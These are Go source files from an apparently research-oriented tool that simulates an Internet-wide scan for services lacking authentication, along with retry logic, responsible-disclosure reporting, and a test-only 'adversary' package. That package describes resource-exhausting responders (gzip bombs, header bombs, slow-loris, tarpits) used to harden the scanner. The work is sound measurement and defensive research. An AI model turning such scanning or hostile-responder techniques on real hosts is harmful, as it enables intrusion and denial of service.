		defer srv.Close()
	}

	fmt.Fprintln(stdout, "generating simulated IPv4 internet...")
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: *bgScale,
			WildcardScale:   *bgScale,
			PopScale:        *popScale,
			Lazy:            *lazy,
			CacheHosts:      *cacheSize,
			HostileRate:     *hostile,
		},
		Scan: scanner.Options{
			PortWorkers: *workers,
			Seed:        uint64(*seed),
		},
		Shards:        *shards,
		FabricWorkers: *fabricN,
		Checkpoint:    ckptCfg,
		Faults:        faultCfg,
		Resilience:    policy,
		Telemetry:     reg,
		Obs:           study.ObsConfig{Progress: tracker, Ready: ready},
		HTTPTimeout:   *httpTO,
	})
	stopProgress()
	if err != nil {
		fmt.Fprintln(stderr, "mav scan:", err)
		return 1
	}
	fmt.Fprintf(stdout, "scanned %d probes in %v; %d open ports, %d hosts in world (%d materialized)\n\n",
		scan.Report.Stats.Probed, scan.Report.Stats.Elapsed, scan.Report.Stats.Open,
		scan.World.TotalHosts(), scan.World.MaterializedHosts())

	report.Table1(stdout)
	fmt.Fprintln(stdout)
	report.Table2(stdout, scan.Report)
	fmt.Fprintln(stdout)
	report.Table3(stdout, scan)
	fmt.Fprintln(stdout)
	report.Table4(stdout, scan, 5)
	fmt.Fprintln(stdout)
	panels := analysis.Figure1(scan.Report.Apps, population.ScanDate, mav.JupyterNotebook, mav.Hadoop)
	report.Figure1(stdout, panels)

	if *jsonOut != "" {
		if err := writeReportJSON(*jsonOut, scan.Report); err != nil {
			fmt.Fprintln(stderr, "mav scan:", err)
			return 1
		}
		fmt.Fprintf(stdout, "\ncanonical report written to %s\n", *jsonOut)
	}

	if reg != nil {
		// Final flush: the full exposition lands on stdout even if no
		// scraper ever hit /metrics during the run.
		fmt.Fprintln(stdout)
		fmt.Fprintln(stdout, "=== Telemetry snapshot ===")
		if err := reg.WriteProm(stdout); err != nil {
			fmt.Fprintln(stderr, "mav scan:", err)
			return 1
		}
	}

	ops.lingerWait(stderr, "mav scan", srv)
	return 0
}
