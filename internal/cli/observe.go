package cli

import (
	"context"
	"fmt"
	"io"
	"time"

	"mavscan/internal/obs"
	"mavscan/internal/population"
	"mavscan/internal/report"
	"mavscan/internal/study"
)

// runObserve is "mav observe": the longevity study (RQ3, Figure 2) — a
// scan followed by re-checks of every vulnerable host on a 3-hour
// cadence over a simulated four-week window.
func runObserve(args []string, stdout, stderr io.Writer) int {
	fs := newFlagSet("observe", stderr)
	var (
		seed      = fs.Int64("seed", 1, "world generation seed")
		hostScale = fs.Int("host-scale", 20000, "divisor for the secure host counts")
		vulnScale = fs.Int("vuln-scale", 8, "divisor for the MAV counts")
		interval  = fs.Duration("interval", 3*time.Hour, "observation cadence (paper: 3h)")
		offAfter  = fs.Int("offline-after", 1, "consecutive failed ticks before a target is reported offline (1 = the paper's single-miss rule)")
	)
	ops := bindOps(fs, ":8071")
	flt := bindFaults(fs, "seed=7,rate=0.02[,burst-every=6h,burst-len=20m,burst-rate=0.5]")
	if err := fs.Parse(args); err != nil {
		return 2
	}

	faultCfg, policy, err := flt.parse()
	if err != nil {
		fmt.Fprintln(stderr, "mav observe:", err)
		return 2
	}

	reg, stopProgress := ops.registry(stderr, obs.ObserverProgressFields)

	ready := &obs.Flag{}
	srv, err := ops.servePlane(stderr, "mav observe", obs.Config{
		Telemetry: reg,
		Live:      []obs.Check{obs.HeapCheck(8 << 30)},
		Ready:     []obs.Check{ready.Check("observation")},
	})
	if err != nil {
		fmt.Fprintln(stderr, "mav observe:", err)
		return 1
	}
	if srv != nil {
		defer srv.Close()
	}

	fmt.Fprintln(stdout, "generating world and running the initial scan...")
	// The initial scan runs fault-free: faults model the weather of the
	// four-week observation window, not the (already completed) scan.
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: -1,
			WildcardScale:   -1,
		},
		Telemetry: reg,
	})
	if err != nil {
		fmt.Fprintln(stderr, "mav observe:", err)
		return 1
	}
	targets := scan.ObserverTargets()
	fmt.Fprintf(stdout, "observing %d vulnerable hosts every %v for four simulated weeks...\n\n", len(targets), *interval)

	res, err := study.RunLongevity(context.Background(), study.LongevityConfig{
		Scan:         scan,
		Seed:         *seed,
		Interval:     *interval,
		Faults:       faultCfg,
		Resilience:   policy,
		OfflineAfter: *offAfter,
		Telemetry:    reg,
		Obs:          study.ObsConfig{Ready: ready},
	})
	if err != nil {
		fmt.Fprintln(stderr, "mav observe:", err)
		return 1
	}
	stopProgress()
	report.Figure2(stdout, res)

	if reg != nil {
		fmt.Fprintln(stdout)
		fmt.Fprintln(stdout, "=== Telemetry snapshot ===")
		if err := reg.WriteProm(stdout); err != nil {
			fmt.Fprintln(stderr, "mav observe:", err)
			return 1
		}
	}

	ops.lingerWait(stderr, "mav observe", srv)
	return 0
}
