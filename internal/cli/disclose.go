package cli

import (
	"context"
	"fmt"
	"io"

	"mavscan/internal/disclosure"
	"mavscan/internal/population"
	"mavscan/internal/study"
)

// runDisclose is "mav disclose": the responsible-disclosure workflow of
// Section 3.2 over a scan's findings — vulnerable hosts inside large
// hosting providers are batched into per-provider reports; for the rest
// the TLS certificate is inspected to derive a security@domain contact.
func runDisclose(args []string, stdout, stderr io.Writer) int {
	fs := newFlagSet("disclose", stderr)
	var (
		seed      = fs.Int64("seed", 1, "world generation seed")
		hostScale = fs.Int("host-scale", 20000, "divisor for the secure host counts")
		vulnScale = fs.Int("vuln-scale", 8, "divisor for the MAV counts")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}

	fmt.Fprintln(stdout, "scanning the simulated internet...")
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: -1,
			WildcardScale:   -1,
		},
	})
	if err != nil {
		fmt.Fprintln(stderr, "mav disclose:", err)
		return 1
	}

	var findings []disclosure.Finding
	for _, obs := range scan.Report.VulnerableObservations() {
		findings = append(findings, disclosure.Finding{
			IP: obs.IP, Port: obs.Port, App: obs.App, TLS: obs.Scheme == "https",
		})
	}
	fmt.Fprintf(stdout, "found %d vulnerable hosts; building notification plan...\n\n", len(findings))

	plan := disclosure.New(scan.World.Net, scan.World.Geo).Build(context.Background(), findings)
	fmt.Fprint(stdout, plan.RenderSummary())
	if len(plan.Direct) > 0 {
		fmt.Fprintln(stdout, "\nexample direct notifications:")
		for i, d := range plan.Direct {
			if i >= 5 {
				break
			}
			fmt.Fprintf(stdout, "  %s → %s (%s at %s:%d)\n", d.Domain, d.Contact, d.Finding.App, d.Finding.IP, d.Finding.Port)
		}
	}
	fmt.Fprintf(stdout, "\n%d of %d findings have a notification path (%.0f%%)\n",
		plan.Notifiable(), len(findings), 100*float64(plan.Notifiable())/float64(len(findings)))
	return 0
}
