package resilience

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

var errBoom = errors.New("boom")

// instant is an Immediate sleeper over the wall clock: waits complete
// without real delay, keeping the tests fast.
var instant = simtime.Immediate(simtime.Wall{})

func TestDoRetriesUntilSuccess(t *testing.T) {
	r := New(Policy{MaxAttempts: 4}, instant)
	calls := 0
	err := r.Do(context.Background(), func(context.Context) error {
		calls++
		if calls < 3 {
			return errBoom
		}
		return nil
	})
	if err != nil {
		t.Fatalf("Do = %v, want success on attempt 3", err)
	}
	if calls != 3 {
		t.Fatalf("fn ran %d times, want 3", calls)
	}
}

func TestDoGivesUpAfterMaxAttempts(t *testing.T) {
	r := New(Policy{MaxAttempts: 3}, instant)
	calls := 0
	err := r.Do(context.Background(), func(context.Context) error {
		calls++
		return errBoom
	})
	if !errors.Is(err, errBoom) {
		t.Fatalf("Do = %v, want the last attempt's error", err)
	}
	if calls != 3 {
		t.Fatalf("fn ran %d times, want MaxAttempts = 3", calls)
	}
}

func TestNilRetrierRunsOnce(t *testing.T) {
	var r *Retrier
	calls := 0
	err := r.Do(context.Background(), func(context.Context) error {
		calls++
		return errBoom
	})
	if !errors.Is(err, errBoom) || calls != 1 {
		t.Fatalf("nil retrier: err=%v calls=%d, want single pass-through attempt", err, calls)
	}
	ctx, cancel := r.Context(context.Background())
	defer cancel()
	if _, ok := ctx.Deadline(); ok {
		t.Fatal("nil retrier must not attach a deadline")
	}
}

func TestDelayDeterministicAndBounded(t *testing.T) {
	p := Policy{MaxAttempts: 8, BaseDelay: 100 * time.Millisecond, MaxDelay: 2 * time.Second, JitterSeed: 11}
	for retry := 1; retry <= 7; retry++ {
		d1, d2 := p.Delay(retry), p.Delay(retry)
		if d1 != d2 {
			t.Fatalf("Delay(%d) nondeterministic: %v vs %v", retry, d1, d2)
		}
		// Nominal backoff for this retry, capped.
		nominal := 100 * time.Millisecond
		for i := 1; i < retry && nominal < 2*time.Second; i++ {
			nominal *= 2
		}
		if nominal > 2*time.Second {
			nominal = 2 * time.Second
		}
		if d1 < nominal/2 || d1 >= nominal {
			t.Errorf("Delay(%d) = %v outside jitter range [%v, %v)", retry, d1, nominal/2, nominal)
		}
	}
	other := Policy{MaxAttempts: 8, BaseDelay: 100 * time.Millisecond, MaxDelay: 2 * time.Second, JitterSeed: 12}
	if p.Delay(3) == other.Delay(3) {
		t.Error("different jitter seeds produced the same delay")
	}
}

func TestAttemptTimeoutAppliesPerAttempt(t *testing.T) {
	r := New(Policy{MaxAttempts: 2, AttemptTimeout: 10 * time.Millisecond}, instant)
	deadlines := 0
	err := r.Do(context.Background(), func(ctx context.Context) error {
		if _, ok := ctx.Deadline(); ok {
			deadlines++
		}
		<-ctx.Done()
		return ctx.Err()
	})
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("Do = %v, want deadline exceeded", err)
	}
	if deadlines != 2 {
		t.Fatalf("%d attempts saw a deadline, want 2", deadlines)
	}
}

func TestBudgetBoundsTheWholeOperation(t *testing.T) {
	// Unlimited attempts but a tiny budget: the loop must stop once the
	// budget context expires rather than burn all attempts.
	r := New(Policy{MaxAttempts: 1 << 20, Budget: 20 * time.Millisecond, BaseDelay: time.Nanosecond, MaxDelay: time.Nanosecond}, instant)
	start := time.Now()
	err := r.Do(context.Background(), func(ctx context.Context) error {
		select {
		case <-ctx.Done():
			return ctx.Err()
		default:
			return errBoom
		}
	})
	if err == nil {
		t.Fatal("Do succeeded, want budget exhaustion")
	}
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Fatalf("budget failed to bound the loop (%v elapsed)", elapsed)
	}
}

func TestContextDerivesBudgetDeadline(t *testing.T) {
	r := New(Policy{MaxAttempts: 3, Budget: time.Minute}, instant)
	ctx, cancel := r.Context(context.Background())
	defer cancel()
	if _, ok := ctx.Deadline(); !ok {
		t.Fatal("Context must carry the policy budget as a deadline")
	}
}

func TestDoTelemetry(t *testing.T) {
	reg := telemetry.New(simtime.Wall{})
	r := New(Policy{MaxAttempts: 3}, instant)
	r.Instrument(reg, "observer")
	calls := 0
	if err := r.Do(context.Background(), func(context.Context) error {
		calls++
		if calls < 2 {
			return errBoom
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	_ = r.Do(context.Background(), func(context.Context) error { return errBoom })
	if got := reg.CounterValue(`mavscan_resilience_attempts_total{stage="observer"}`); got != 5 {
		t.Errorf("attempts = %d, want 5 (2 + 3)", got)
	}
	if got := reg.CounterValue(`mavscan_resilience_retries_total{stage="observer"}`); got != 3 {
		t.Errorf("retries = %d, want 3 (1 + 2)", got)
	}
	if got := reg.CounterValue(`mavscan_resilience_giveups_total{stage="observer"}`); got != 1 {
		t.Errorf("giveups = %d, want 1", got)
	}
}

// flakyTransport fails n times (with a transport error or a 5xx) before
// succeeding.
type flakyTransport struct {
	failures int
	status   int // 0 = transport error, else respond with this status first
	calls    int
}

func (f *flakyTransport) RoundTrip(*http.Request) (*http.Response, error) {
	f.calls++
	if f.calls <= f.failures {
		if f.status == 0 {
			return nil, errBoom
		}
		return respond(f.status), nil
	}
	return respond(200), nil
}

func respond(status int) *http.Response {
	return &http.Response{
		StatusCode: status,
		Body:       io.NopCloser(strings.NewReader(fmt.Sprintf("status %d", status))),
	}
}

func TestRoundTripperRetriesTransportErrors(t *testing.T) {
	ft := &flakyTransport{failures: 2}
	rt := New(Policy{MaxAttempts: 3}, instant).RoundTripper(ft)
	req, _ := http.NewRequest(http.MethodGet, "http://10.0.0.1/", nil)
	resp, err := rt.RoundTrip(req)
	if err != nil {
		t.Fatalf("RoundTrip = %v, want success on attempt 3", err)
	}
	resp.Body.Close()
	if ft.calls != 3 || resp.StatusCode != 200 {
		t.Fatalf("calls=%d status=%d, want 3 calls ending in 200", ft.calls, resp.StatusCode)
	}
}

func TestRoundTripperRetries5xx(t *testing.T) {
	ft := &flakyTransport{failures: 1, status: 503}
	rt := New(Policy{MaxAttempts: 2}, instant).RoundTripper(ft)
	req, _ := http.NewRequest(http.MethodGet, "http://10.0.0.1/", nil)
	resp, err := rt.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("status = %d, want the retried 200", resp.StatusCode)
	}
}

func TestRoundTripperSurfacesPersistent5xx(t *testing.T) {
	ft := &flakyTransport{failures: 99, status: 503}
	rt := New(Policy{MaxAttempts: 2}, instant).RoundTripper(ft)
	req, _ := http.NewRequest(http.MethodGet, "http://10.0.0.1/", nil)
	resp, err := rt.RoundTrip(req)
	if err != nil {
		t.Fatalf("RoundTrip = %v, want the last 5xx response surfaced", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 503 || ft.calls != 2 {
		t.Fatalf("status=%d calls=%d, want 503 after exactly 2 attempts", resp.StatusCode, ft.calls)
	}
	body, _ := io.ReadAll(resp.Body)
	if string(body) != "status 503" {
		t.Fatalf("surfaced body %q must still be readable", body)
	}
}

func TestRoundTripperPassesThroughBodies(t *testing.T) {
	ft := &flakyTransport{failures: 99}
	rt := New(Policy{MaxAttempts: 5}, instant).RoundTripper(ft)
	req, _ := http.NewRequest(http.MethodPost, "http://10.0.0.1/", strings.NewReader("data"))
	if _, err := rt.RoundTrip(req); err == nil {
		t.Fatal("want the transport error passed through")
	}
	if ft.calls != 1 {
		t.Fatalf("request with a body retried %d times; must not be replayed", ft.calls)
	}
}

func TestDisabledPolicyReturnsBaseTransport(t *testing.T) {
	ft := &flakyTransport{}
	if rt := New(Policy{}, instant).RoundTripper(ft); rt != http.RoundTripper(ft) {
		t.Fatal("disabled policy must return the base transport unchanged")
	}
	var nilR *Retrier
	if rt := nilR.RoundTripper(ft); rt != http.RoundTripper(ft) {
		t.Fatal("nil retrier must return the base transport unchanged")
	}
}
