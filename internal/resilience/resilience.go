// Package resilience implements deterministic retry with exponential
// backoff for the scanning pipeline.
//
// The paper's pipeline (like the masscan/Tsunami tooling it models) issues
// one attempt per network operation; a single transient failure — the kind
// internal/faults injects and real Internet measurement constantly hits —
// then flips a classification. This package wraps those operations in a
// bounded retry loop: a Policy fixes the attempt budget, the backoff curve
// and the deadlines, and a Retrier executes it against an injected
// simtime.Sleeper so simulated studies never block a real goroutine
// (simtime.Immediate) while wall-clock deployments honestly wait
// (simtime.Wall).
//
// Everything is deterministic: the backoff jitter comes from a seeded hash
// of the retry ordinal, not from a global RNG or the clock, so the same
// policy produces the same wait sequence on every run — a requirement for
// the byte-identical-report guarantee the fault-injection experiments make.
package resilience

import (
	"context"
	"net/http"
	"time"

	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// Policy bounds a retry loop. The zero value disables retries (a single
// attempt, no deadlines) so existing call sites keep their exact behavior.
type Policy struct {
	// MaxAttempts is the total attempt budget; values below 2 mean a
	// single attempt.
	MaxAttempts int
	// BaseDelay is the backoff before the first retry (default 100ms);
	// each further retry multiplies it by Multiplier (default 2) up to
	// MaxDelay (default 5s).
	BaseDelay  time.Duration
	MaxDelay   time.Duration
	Multiplier float64
	// JitterSeed seeds the deterministic jitter: each backoff is drawn
	// from [delay/2, delay) by a hash of (seed, retry ordinal).
	JitterSeed uint64
	// AttemptTimeout bounds each attempt (default none).
	AttemptTimeout time.Duration
	// Budget bounds the whole operation including backoff waits (default
	// 30s once retries are enabled). Do derives its context deadline from
	// it, and the observer derives each per-check context from it so a
	// hung simulated host cannot stall a tick.
	Budget time.Duration
}

// Enabled reports whether the policy retries at all.
func (p Policy) Enabled() bool { return p.MaxAttempts > 1 }

// WithDefaults fills the unset knobs of an enabled policy.
func (p Policy) WithDefaults() Policy {
	if !p.Enabled() {
		return p
	}
	if p.BaseDelay <= 0 {
		p.BaseDelay = 100 * time.Millisecond
	}
	if p.MaxDelay <= 0 {
		p.MaxDelay = 5 * time.Second
	}
	if p.Multiplier < 1 {
		p.Multiplier = 2
	}
	if p.Budget <= 0 {
		p.Budget = 30 * time.Second
	}
	return p
}

// splitmix64 is the SplitMix64 finalizer, the code base's standard cheap
// deterministic mixer.
func splitmix64(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

// Delay returns the backoff before the retry-th retry (1-based):
// exponential growth capped at MaxDelay, with deterministic jitter drawing
// the result from [d/2, d).
func (p Policy) Delay(retry int) time.Duration {
	p = p.WithDefaults()
	d := p.BaseDelay
	for i := 1; i < retry && d < p.MaxDelay; i++ {
		d = time.Duration(float64(d) * p.Multiplier)
	}
	if d > p.MaxDelay {
		d = p.MaxDelay
	}
	if d <= 1 {
		return d
	}
	h := splitmix64(p.JitterSeed ^ splitmix64(uint64(retry)))
	half := d / 2
	return half + time.Duration(h%uint64(half))
}

// Retrier executes operations under a Policy, waiting on an injected
// Sleeper. A nil *Retrier is valid and runs the operation exactly once —
// call sites need no conditional wiring.
type Retrier struct {
	policy Policy
	clock  simtime.Sleeper
	tel    *retrierTelemetry
}

type retrierTelemetry struct {
	attempts *telemetry.Counter
	retries  *telemetry.Counter
	giveups  *telemetry.Counter
	wait     *telemetry.Histogram
}

// New builds a Retrier. A nil clock defaults to an immediate sleeper over
// the wall clock: backoff delays are still computed and recorded, but the
// waits complete instantly — the right semantics for simulated studies,
// where only the simulated timeline may pass time.
func New(policy Policy, clock simtime.Sleeper) *Retrier {
	if clock == nil {
		clock = simtime.Immediate(simtime.Wall{})
	}
	return &Retrier{policy: policy.WithDefaults(), clock: clock}
}

// Policy returns the retrier's normalized policy (zero for nil).
func (r *Retrier) Policy() Policy {
	if r == nil {
		return Policy{}
	}
	return r.policy
}

// Instrument registers the retry metrics for one pipeline stage with reg
// (nil registry or nil retrier = off).
func (r *Retrier) Instrument(reg *telemetry.Registry, stage string) {
	if r == nil || !reg.Enabled() {
		return
	}
	r.tel = &retrierTelemetry{
		attempts: reg.Counter(telemetry.Labeled("mavscan_resilience_attempts_total", "stage", stage)),
		retries:  reg.Counter(telemetry.Labeled("mavscan_resilience_retries_total", "stage", stage)),
		giveups:  reg.Counter(telemetry.Labeled("mavscan_resilience_giveups_total", "stage", stage)),
		wait: reg.Histogram(
			telemetry.Labeled("mavscan_resilience_backoff_wait_seconds", "stage", stage), nil),
	}
}

// Context derives a per-operation context from the policy's overall
// budget. The cancel func must be called; with no budget it is a no-op.
func (r *Retrier) Context(parent context.Context) (context.Context, context.CancelFunc) {
	if b := r.Policy().Budget; b > 0 {
		return context.WithTimeout(parent, b)
	}
	return parent, func() {}
}

// Do runs fn under the retry policy: up to MaxAttempts attempts, separated
// by jittered exponential backoff, each bounded by AttemptTimeout and all
// of it by Budget. It returns nil on the first success, otherwise the last
// attempt's error. On a nil retrier fn runs exactly once with the caller's
// context.
func (r *Retrier) Do(ctx context.Context, fn func(context.Context) error) error {
	if r == nil || !r.policy.Enabled() {
		return fn(ctx)
	}
	if b := r.policy.Budget; b > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, b)
		defer cancel()
	}
	var err error
	for attempt := 1; ; attempt++ {
		if r.tel != nil {
			r.tel.attempts.Inc()
		}
		if err = r.attempt(ctx, fn); err == nil {
			return nil
		}
		if attempt >= r.policy.MaxAttempts || ctx.Err() != nil {
			break
		}
		d := r.policy.Delay(attempt)
		if r.tel != nil {
			r.tel.retries.Inc()
			r.tel.wait.Observe(d.Seconds())
		}
		select {
		case <-r.clock.After(d):
		case <-ctx.Done():
			if r.tel != nil {
				r.tel.giveups.Inc()
			}
			return err
		}
	}
	if r.tel != nil {
		r.tel.giveups.Inc()
	}
	return err
}

// attempt isolates the per-attempt timeout so its cancel runs as soon as
// the attempt returns.
func (r *Retrier) attempt(ctx context.Context, fn func(context.Context) error) error {
	if t := r.policy.AttemptTimeout; t > 0 {
		actx, cancel := context.WithTimeout(ctx, t)
		defer cancel()
		return fn(actx)
	}
	return fn(ctx)
}

// RoundTripper wraps base so bodyless requests (the pipeline issues only
// GETs) are retried on transport errors and 5xx responses under the
// retrier's policy. Requests with a body pass through untouched — replaying
// them is not generally safe. Per-attempt and overall deadlines are left to
// the client's own Timeout: the response body outlives RoundTrip, so the
// wrapper must not attach a context it would cancel on return. A nil
// retrier (or a disabled policy) returns base unchanged.
func (r *Retrier) RoundTripper(base http.RoundTripper) http.RoundTripper {
	if r == nil || !r.policy.Enabled() {
		return base
	}
	return &retryTransport{base: base, r: r}
}

type retryTransport struct {
	base http.RoundTripper
	r    *Retrier
}

func (t *retryTransport) RoundTrip(req *http.Request) (*http.Response, error) {
	if req.Body != nil && req.Body != http.NoBody {
		return t.base.RoundTrip(req)
	}
	p := t.r.policy
	tel := t.r.tel
	var resp *http.Response
	var err error
	for attempt := 1; ; attempt++ {
		if tel != nil {
			tel.attempts.Inc()
		}
		resp, err = t.base.RoundTrip(req)
		retryable := err != nil || resp.StatusCode >= 500
		if !retryable || attempt >= p.MaxAttempts || req.Context().Err() != nil {
			if retryable && tel != nil {
				tel.giveups.Inc()
			}
			break
		}
		if resp != nil {
			// This 5xx triggers a retry; its body will never be read.
			resp.Body.Close()
			resp = nil
		}
		d := p.Delay(attempt)
		if tel != nil {
			tel.retries.Inc()
			tel.wait.Observe(d.Seconds())
		}
		select {
		case <-t.r.clock.After(d):
		case <-req.Context().Done():
			return nil, req.Context().Err()
		}
	}
	if resp != nil {
		// Success, or attempts exhausted on a persistent 5xx: surface the
		// last response either way — callers inspect the status code.
		return resp, nil
	}
	return nil, err
}
