package adversary

import (
	"io"
	"net/http"
	"net/netip"
	"strings"
	"testing"
	"time"

	"mavscan/internal/httpsim"
	"mavscan/internal/limits"
	"mavscan/internal/simnet"
)

// firingSleeper fires After immediately: clients configured with it prove
// budget termination without waiting out a wall budget.
type firingSleeper struct{}

func (firingSleeper) Now() time.Time { return time.Time{} }
func (firingSleeper) After(time.Duration) <-chan time.Time {
	ch := make(chan time.Time, 1)
	ch <- time.Time{}
	return ch
}

// bindHostile places one hostile archetype at ip:port on a fresh network.
func bindHostile(t *testing.T, a Archetype, ip netip.Addr, port int) *simnet.Network {
	t.Helper()
	n := simnet.New()
	h := simnet.NewHost(ip)
	h.Bind(port, Handler(a, ip, port, nil))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	return n
}

func TestArchetypeStrings(t *testing.T) {
	seen := map[string]bool{}
	for a := Archetype(0); a < NumArchetypes; a++ {
		s := a.String()
		if s == "" || strings.HasPrefix(s, "archetype(") {
			t.Errorf("archetype %d has no name", a)
		}
		if seen[s] {
			t.Errorf("duplicate archetype name %q", s)
		}
		seen[s] = true
	}
}

func TestBodyFloodReadsBounded(t *testing.T) {
	ip := netip.MustParseAddr("10.0.0.1")
	n := bindHostile(t, BodyFlood, ip, 8080)
	client := httpsim.NewClient(n, httpsim.ClientOptions{DisableKeepAlives: true})
	resp, err := client.Get("http://10.0.0.1:8080/")
	if err != nil {
		t.Fatalf("GET: %v", err)
	}
	defer resp.Body.Close()
	body, truncated, err := limits.ReadBody(resp.Body, limits.MaxBody)
	if err != nil {
		t.Fatalf("ReadBody: %v", err)
	}
	if !truncated {
		t.Error("flood body not reported truncated")
	}
	if len(body) != limits.MaxBody {
		t.Errorf("read %d bytes, want exactly %d", len(body), limits.MaxBody)
	}
}

func TestHeaderBombFailsExchange(t *testing.T) {
	ip := netip.MustParseAddr("10.0.0.2")
	n := bindHostile(t, HeaderBomb, ip, 8080)
	client := httpsim.NewClient(n, httpsim.ClientOptions{DisableKeepAlives: true})
	resp, err := client.Get("http://10.0.0.2:8080/")
	if err == nil {
		resp.Body.Close()
		t.Fatal("header bomb produced a successful exchange; the header cap did not fire")
	}
}

func TestRedirectMazeTerminates(t *testing.T) {
	ip := netip.MustParseAddr("10.0.0.3")
	n := bindHostile(t, RedirectMaze, ip, 8080)
	client := httpsim.NewClient(n, httpsim.ClientOptions{DisableKeepAlives: true})
	resp, err := client.Get("http://10.0.0.3:8080/")
	if err == nil {
		resp.Body.Close()
		t.Fatal("infinite maze produced a response; the redirect cap did not fire")
	}
	if !strings.Contains(err.Error(), "redirects") {
		t.Errorf("maze terminated with %v, want the redirect cap", err)
	}
}

func TestGzipBombDecompressesBounded(t *testing.T) {
	ip := netip.MustParseAddr("10.0.0.4")
	n := bindHostile(t, GzipBomb, ip, 8080)
	client := httpsim.NewClient(n, httpsim.ClientOptions{DisableKeepAlives: true})
	resp, err := client.Get("http://10.0.0.4:8080/")
	if err != nil {
		t.Fatalf("GET: %v", err)
	}
	defer resp.Body.Close()
	if !resp.Uncompressed {
		t.Error("transport did not decompress the bomb transparently")
	}
	body, truncated, err := limits.ReadBody(resp.Body, limits.MaxBody)
	if err != nil {
		t.Fatalf("ReadBody: %v", err)
	}
	if !truncated || len(body) != limits.MaxBody {
		t.Errorf("bomb read %d bytes truncated=%v, want %d truncated", len(body), truncated, limits.MaxBody)
	}
}

func TestTarpitTerminatedByBudget(t *testing.T) {
	ip := netip.MustParseAddr("10.0.0.5")
	n := bindHostile(t, Tarpit, ip, 8080)
	// The watchdog fires instantly on the injected clock: the tarpit costs
	// one failed exchange, not the full wall timeout.
	client := httpsim.NewClient(n, httpsim.ClientOptions{
		DisableKeepAlives: true,
		Clock:             firingSleeper{},
		Budget:            time.Hour,
	})
	start := time.Now()
	resp, err := client.Get("http://10.0.0.5:8080/")
	if err == nil {
		resp.Body.Close()
		t.Fatal("tarpit produced a response")
	}
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Errorf("tarpit exchange took %v; the budget watchdog did not fire", elapsed)
	}
}

func TestSlowLorisTerminatedByBudget(t *testing.T) {
	ip := netip.MustParseAddr("10.0.0.6")
	n := bindHostile(t, SlowLoris, ip, 8080)
	client := httpsim.NewClient(n, httpsim.ClientOptions{
		DisableKeepAlives: true,
		Clock:             firingSleeper{},
		Budget:            time.Hour,
	})
	start := time.Now()
	resp, err := client.Get("http://10.0.0.6:8080/")
	if err == nil {
		// The drip may have delivered the head before the watchdog fired;
		// the body read must still fail fast.
		_, copyErr := io.Copy(io.Discard, io.LimitReader(resp.Body, limits.MaxBody))
		resp.Body.Close()
		if copyErr == nil {
			t.Fatal("slow-loris delivered a full body")
		}
	}
	if elapsed := time.Since(start); elapsed > 5*time.Second {
		t.Errorf("slow-loris exchange took %v; the budget watchdog did not fire", elapsed)
	}
}

func TestLoopRedirectsToOrigin(t *testing.T) {
	ip := netip.MustParseAddr("10.0.0.7")
	n := simnet.New()
	h := simnet.NewHost(ip)
	origin := "http://10.0.0.7:8080/"
	h.Bind(8080, httpsim.ConnHandler(Loop(origin)))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	client := httpsim.NewClient(n, httpsim.ClientOptions{DisableKeepAlives: true})
	resp, err := client.Get(origin)
	if err == nil {
		resp.Body.Close()
		t.Fatal("origin loop produced a response; the redirect cap did not fire")
	}
}

var _ http.Handler = Maze(func(int) string { return "" })
