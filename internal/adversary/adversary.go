// Package adversary implements the weaponized responders seeded into the
// simulated population ("Never Trust Your Victim"; LZR's observation that
// the wild is full of services that do not speak what the port promises).
//
// Each archetype attacks a different resource of a naive scanner:
//
//	BodyFlood    — a 200 OK whose body never ends (memory).
//	HeaderBomb   — response headers far above the 256KiB cap (memory).
//	RedirectMaze — an endless self-referential redirect chain (requests).
//	SlowLoris    — a valid response dripped one byte per clock tick (time).
//	GzipBomb     — a tiny compressed body expanding ~1000:1 (memory).
//	Tarpit       — accepts, swallows the request, never answers (time).
//
// Handlers are ordinary simnet connection handlers, so hostile hosts ride
// the same population machinery as benign ones; the consumer-side budgets
// they are designed to probe live in internal/limits.
package adversary

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"time"

	"mavscan/internal/httpsim"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
)

// Archetype identifies one weaponized-responder family.
type Archetype uint8

// The archetype palette. NumArchetypes bounds the population's per-host
// draw.
const (
	BodyFlood Archetype = iota
	HeaderBomb
	RedirectMaze
	SlowLoris
	GzipBomb
	Tarpit
	NumArchetypes
)

// String names the archetype for reports and logs.
func (a Archetype) String() string {
	switch a {
	case BodyFlood:
		return "body-flood"
	case HeaderBomb:
		return "header-bomb"
	case RedirectMaze:
		return "redirect-maze"
	case SlowLoris:
		return "slow-loris"
	case GzipBomb:
		return "gzip-bomb"
	case Tarpit:
		return "tarpit"
	}
	return fmt.Sprintf("archetype(%d)", uint8(a))
}

const (
	// floodCap bounds a BodyFlood handler's total output so the handler
	// goroutine terminates even against a reader no budget ever stops. It
